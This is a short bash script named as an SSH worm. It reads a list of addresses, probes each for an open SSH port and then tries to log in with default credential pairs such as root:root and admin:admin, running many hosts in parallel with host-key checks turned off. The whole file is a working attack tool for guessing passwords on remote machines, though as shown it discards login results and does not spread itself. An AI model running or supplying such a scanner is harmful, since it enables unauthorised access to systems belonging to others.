#!/bin/bash
# Looks for ssh on a list of addresses and tries to log in wherever it answers: ssh_worm.sh FILE PAUSE_S. Prints `got 1` for each found.
try() {
  timeout --foreground 2 bash -c "exec 3<>/dev/tcp/$1/22" 2>/dev/null || return
  echo 'got 1'
  for pair in root:root root:toor admin:admin backup:backup; do
    sshpass -p "${pair##*:}" ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5 \
      -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 "${pair%%:*}@$1" true </dev/null >/dev/null 2>&1
  done
}
while read -r address; do
  try "$address" &
  while [ "$(jobs -rp | wc -l)" -ge 12 ]; do sleep 0.1; done
  sleep "$2"
done <"$1"
wait
